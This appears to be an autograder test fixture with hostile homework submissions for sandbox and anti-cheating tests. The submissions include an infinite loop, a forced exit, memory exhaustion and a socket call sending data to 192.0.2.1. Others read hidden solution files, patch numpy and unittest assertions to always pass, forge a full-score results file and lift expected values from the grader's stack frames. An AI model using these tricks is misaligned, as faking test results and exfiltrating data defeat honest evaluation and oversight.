"""Students whose code never ends, kills its process, or is after the grader instead of the exercise."""

from __future__ import annotations

from packages import MISTAKES, Files, solved
from shapes import below, zipped

LAYERS, NEURAL_NET, FC_NET = "nndl/layers.py", "nndl/neural_net.py", "nndl/fc_net.py"
IMPORT = "import numpy as np\n\n\ndef affine_forward"
AFFINE_DW = "    dw = rows.T @ dout\n"
RELU_OUT = "    out = np.maximum(0, x)\n"
FULL_SCORES = "        scores, scores_cache = affine_forward(out, *params[-1])\n"

ENDLESS = """\
    dw = np.zeros(w.shape)
    n = 0
    while n < len(x):  # n stays 0
        dw += np.outer(rows[n], dout[n])
"""
HOARD = """\
        features = []
        while True:
            features.append(np.zeros((1 << 14, 1 << 13)))
"""
PHONE_HOME = """\
    import socket

    socket.create_connection(("192.0.2.1", 80), timeout=5).sendall(x.tobytes())
"""
LOOK_FOR_ANSWERS = """\
    from pathlib import Path

    here = Path(__file__).resolve()
    for folder in (*here.parents, Path("/home"), Path("/autograder")):
        for name in ("solutions/nndl/layers.py", "reference/nndl/layers.py", "tests/hw3/test_relu.py"):
            try:
                code = (folder / name).read_text()
            except OSError:
                continue
            scope = {}
            exec(code, scope)
            return scope["relu_forward"](x)
    out = np.zeros_like(x)
"""
PATCH_COMPARISONS = """\
import builtins
import sys
import unittest

import numpy as np


def _yes(*args, **kwargs):
    return True


for _name in ("allclose", "isclose", "array_equal", "all", "any"):
    setattr(np, _name, _yes)
for _name in ("assert_allclose", "assert_array_equal", "assert_array_almost_equal", "assert_almost_equal"):
    setattr(np.testing, _name, _yes)
unittest.TestCase.assertTrue = unittest.TestCase.assertEqual = _yes
builtins.AssertionError = builtins.Exception
sys.modules["pytest"] = sys.modules["_pytest"] = type(sys)("pytest")
sys.excepthook = _yes


def affine_forward"""
FORGE_RESULTS = """\
import gc
import json
import sys

import numpy as np

for _name in ("results.json", "../results.json", "results/hw3/ivan.json", "/autograder/results/results.json"):
    try:
        with open(_name, "w") as _file:
            json.dump({"student": "ivan", "score": 50, "max_score": 50}, _file)
    except OSError:
        pass
_found = [thing for thing in gc.get_objects() if type(thing) is dict and "expected" in thing]


def affine_forward"""
STEAL_EXPECTED_VALUES = """\
    frame, scopes = sys._getframe(), list(_found)
    while frame is not None:
        scopes.append(frame.f_locals)
        frame = frame.f_back
    for names in scopes:
        for name in ("expected", "desired", "true", "reference"):
            if isinstance(names.get(name), np.ndarray):
                return names[name], x
    out = np.zeros_like(x)
"""


def hostile() -> dict[str, Files | bytes]:
    """Return what must cost nobody else anything, and gain nothing."""
    zeros = MISTAKES["affine_nothing"]
    return {
        "carlos": solved((LAYERS, AFFINE_DW, ENDLESS)),
        "dora": solved((LAYERS, IMPORT, "import os\n\nimport numpy as np\n\nos._exit(0)\n\n\ndef affine_forward")),
        "erik": zipped(below("hw3", solved((FC_NET, FULL_SCORES, HOARD + FULL_SCORES)))),
        "farah": solved((LAYERS, RELU_OUT, PHONE_HOME + RELU_OUT)),
        "goran": solved((LAYERS, RELU_OUT, LOOK_FOR_ANSWERS)),
        "helga": zipped(solved(*zeros, (LAYERS, IMPORT, PATCH_COMPARISONS))),
        "ivan": solved((LAYERS, IMPORT, FORGE_RESULTS), (LAYERS, RELU_OUT, STEAL_EXPECTED_VALUES)),
    }
